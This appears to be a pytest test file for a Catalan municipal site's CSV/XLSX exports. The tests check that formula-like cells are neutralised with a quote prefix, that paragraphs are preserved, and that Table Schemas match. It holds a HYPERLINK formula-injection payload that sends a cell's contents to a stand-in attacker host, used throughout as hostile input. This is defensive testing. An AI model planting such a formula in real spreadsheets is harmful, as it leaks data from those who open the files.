"""Every CSV and XLSX the site and the admin write: no cell runs as a formula, texts keep their
paragraphs, missing values are written one way, and each public CSV has its Table Schema."""

import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from localret_site.spreadsheets import neutralise_cell
from members.models import Kind
from tests.factories import (
    AccessRequestFactory,
    GoverningBodyFactory,
    MemberFactory,
    PersonFactory,
    PositionFactory,
    TransparencyItemFactory,
)
from transparency.models import TransparencySectionPage

pytestmark = pytest.mark.django_db

MEMBERS_URL = "/qui-som/municipis-adherits/"
CONTRACTS_URL = "/qui-som/transparencia/contractacio-publica/"
MAX_QUERIES = 15
# The example: a cell that sends the row's neighbour to someone else's server.
HOSTILE = '=HYPERLINK("http://evil.example/?x="&B2,"Obrir")'


def csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def csv_records(response):
    header, *rows = csv_rows(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def contracts(seeded_site):
    return TransparencySectionPage.objects.get(slug="contractacio-publica")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+34 930 000 000", "'+34 930 000 000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("08019", "08019"),
        ("Sant Cugat del Vallès", "Sant Cugat del Vallès"),
        ("", ""),
        (None, None),
        (2025, 2025),
    ],
)
def test_a_cell_that_reads_as_a_formula_gets_a_single_quote(value, expected):
    assert neutralise_cell(value) == expected


class TestMembersOpenData:
    @pytest.fixture
    def hostile(self, seeded_site):
        return MemberFactory(name=HOSTILE, code="HOSTIL")

    @pytest.fixture
    def association(self, seeded_site):
        """A member without comarca, province, website or leaving date."""
        return MemberFactory(
            name="Ens sense comarca",
            kind=Kind.MUNICIPALIST_ASSOCIATION,
            code="ZQX9",
            comarca_id=None,
        )

    def test_csv_neutralises_a_hostile_name(self, client, hostile):
        [row] = csv_records(client.get(MEMBERS_URL, {"q": "HOSTIL", "format": "csv"}))

        assert row["nom"] == "'" + HOSTILE

    def test_json_keeps_a_hostile_name_exact(self, client, hostile):
        data = client.get(MEMBERS_URL, {"q": "HOSTIL", "format": "json"}).json()

        assert [row["nom"] for row in data["results"]] == [HOSTILE]

    def test_missing_values_are_null_in_json_and_empty_in_csv(self, client, association):
        [row] = client.get(MEMBERS_URL, {"q": "ZQX9", "format": "json"}).json()["results"]
        [record] = csv_records(client.get(MEMBERS_URL, {"q": "ZQX9", "format": "csv"}))

        missing = ["comarca", "data_baixa", "web", "provincia"]
        assert {name: row[name] for name in missing} == dict.fromkeys(missing)
        assert row["comarca_nom"] is None
        assert row["provincia_nom"] is None
        assert {name: record[name] for name in missing} == dict.fromkeys(missing, "")

    def test_the_schema_describes_the_csv_header_with_codes_as_text(
        self, client, seeded_site, django_assert_max_num_queries
    ):
        csv_response = client.get(MEMBERS_URL, {"format": "csv"})
        with django_assert_max_num_queries(MAX_QUERIES):
            schema_response = client.get(MEMBERS_URL, {"format": "schema"})
        schema = schema_response.json()

        assert schema_response.status_code == 200
        assert schema_response["Content-Type"] == "application/json; charset=utf-8"
        assert [field["name"] for field in schema["fields"]] == csv_rows(csv_response)[0]
        assert schema["missingValues"] == [""]
        fields = {field["name"]: field for field in schema["fields"]}
        for name in ("codi", "comarca", "provincia"):
            assert fields[name]["type"] == "string"
        assert re.fullmatch(fields["codi"]["constraints"]["pattern"], "080193")
        assert re.fullmatch(fields["comarca"]["constraints"]["pattern"], "08")
        assert fields["data_adhesio"]["type"] == "date"
        assert fields["tipus"]["title"] == "Tipus"

    def test_the_csv_and_its_page_point_to_the_schema(self, client, seeded_site):
        MemberFactory()
        csv_response = client.get(MEMBERS_URL, {"provincia": "08", "format": "csv"})
        html = client.get(MEMBERS_URL).content.decode()

        assert csv_response["Link"] == (
            f'<http://testserver{MEMBERS_URL}?format=schema>; rel="describedby"; '
            'type="application/json"'
        )
        assert 'href="?format=schema"' in html
        assert client.get(MEMBERS_URL, {"format": "schema"}).status_code == 200


class TestTransparencyOpenData:
    @pytest.fixture
    def hostile(self, contracts):
        return TransparencyItemFactory(
            section=contracts,
            title=HOSTILE,
            description="<p>-1+1</p>",
            period="@trimestre",
        )

    def test_csv_neutralises_hostile_texts(self, client, hostile):
        [row] = csv_records(client.get(CONTRACTS_URL, {"format": "csv"}))

        assert row["title"] == "'" + HOSTILE
        assert row["description"] == "'-1+1"
        assert row["period"] == "'@trimestre"

    def test_json_keeps_hostile_texts_exact(self, client, hostile):
        [item] = client.get(CONTRACTS_URL, {"format": "json"}).json()["items"]

        assert (item["title"], item["description"], item["period"]) == (
            HOSTILE,
            "-1+1",
            "@trimestre",
        )

    def test_paragraphs_and_list_items_stay_on_lines_of_their_own(self, client, contracts):
        TransparencyItemFactory(
            section=contracts,
            description=(
                "<p>Objecte: <b>manteniment</b> de la xarxa.</p><p>Import &amp; termini:</p>"
                "<ul><li>12.000 €</li><li>dos anys</li></ul>"
            ),
        )
        expected = "Objecte: manteniment de la xarxa.\nImport & termini:\n12.000 €\ndos anys"

        [item] = client.get(CONTRACTS_URL, {"format": "json"}).json()["items"]
        [row] = csv_records(client.get(CONTRACTS_URL, {"format": "csv"}))

        assert item["description"] == expected
        assert row["description"] == expected

    def test_missing_values_are_null_in_json_and_empty_in_csv(self, client, contracts):
        TransparencyItemFactory(section=contracts, year=None, period="", description="")

        data = client.get(CONTRACTS_URL, {"format": "json"}).json()
        [record] = csv_records(client.get(CONTRACTS_URL, {"format": "csv"}))

        missing = ["period", "year", "description"]
        assert {name: data["items"][0][name] for name in missing} == dict.fromkeys(missing)
        assert {name: record[name] for name in missing} == dict.fromkeys(missing, "")

    def test_the_schema_describes_the_csv_header(
        self, client, contracts, django_assert_max_num_queries
    ):
        TransparencyItemFactory(section=contracts, year=2024)
        csv_response = client.get(CONTRACTS_URL, {"format": "csv", "any": "2024"})
        with django_assert_max_num_queries(MAX_QUERIES):
            schema_response = client.get(CONTRACTS_URL, {"format": "schema"})
        schema = schema_response.json()

        assert schema_response.status_code == 200
        assert [field["name"] for field in schema["fields"]] == csv_rows(csv_response)[0]
        assert schema["missingValues"] == [""]
        fields = {field["name"]: field for field in schema["fields"]}
        assert fields["year"]["type"] == "integer"
        assert fields["last_updated"]["type"] == "date"
        assert csv_response["Link"] == (
            f'<http://testserver{CONTRACTS_URL}?format=schema>; rel="describedby"; '
            'type="application/json"'
        )

    def test_the_section_page_links_to_the_schema(self, client, contracts):
        TransparencyItemFactory(section=contracts)

        assert 'href="?format=schema"' in client.get(CONTRACTS_URL).content.decode()


class TestAdminExports:
    """The admin's CSV exports neutralise what was typed in; XLSX keeps it exact, as text."""

    def test_local_entities(self, admin_client, seeded_site):
        MemberFactory(name=HOSTILE, code="HOSTIL")
        url = reverse("wagtailsnippets_members_member:list")

        rows = csv_rows(admin_client.get(url, {"export": "csv", "q": "HOSTIL"}))
        cells = xlsx_cells(admin_client.get(url, {"export": "xlsx", "q": "HOSTIL"}))

        assert rows[1][:2] == ["HOSTIL", "'" + HOSTILE]
        [cell] = [cell for cell in cells if cell.value == HOSTILE]
        assert cell.data_type == "s"
        assert cell.quotePrefix

    def test_access_requests(self, admin_client, db):
        AccessRequestFactory(subject=HOSTILE, name="+34 Marta")
        url = reverse("access_requests:index")

        [record] = csv_records(admin_client.get(url, {"export": "csv"}))
        cells = xlsx_cells(admin_client.get(url, {"export": "xlsx"}))

        assert "'" + HOSTILE in record.values()
        assert "'+34 Marta" in record.values()
        [cell] = [cell for cell in cells if cell.value == HOSTILE]
        assert cell.quotePrefix

    def test_published_information(self, admin_client, contracts):
        TransparencyItemFactory(section=contracts, title=HOSTILE, legal_reference="@art. 13")
        url = reverse("wagtailsnippets_transparency_transparencyitem:list")

        [record] = csv_records(admin_client.get(url, {"export": "csv", "q": "HYPERLINK"}))

        assert "'" + HOSTILE in record.values()
        assert "'@art. 13" in record.values()

    def test_governing_bodies_people_and_positions(self, admin_client, db):
        body = GoverningBodyFactory(
            name="-Òrgan", functions="<p>Aprovar el pressupost.</p><p>Retre comptes.</p>"
        )
        PositionFactory(person=PersonFactory(name=HOSTILE, biography="=1+1"), body=body)

        [body_row] = [
            record
            for record in csv_records(
                admin_client.get(
                    reverse("wagtailsnippets_governance_governingbody:list"), {"export": "csv"}
                )
            )
            if "'-Òrgan" in record.values()
        ]
        [person_row] = csv_records(
            admin_client.get(
                reverse("wagtailsnippets_governance_person:list"),
                {"export": "csv", "q": "HYPERLINK"},
            )
        )
        [position_row] = csv_records(
            admin_client.get(reverse("wagtailsnippets_governance_position:list"), {"export": "csv"})
        )

        assert "Aprovar el pressupost.\nRetre comptes." in body_row.values()
        assert set(person_row.values()) == {"'" + HOSTILE, "'=1+1"}
        assert "'" + HOSTILE in position_row.values()
        assert "'-Òrgan" in position_row.values()
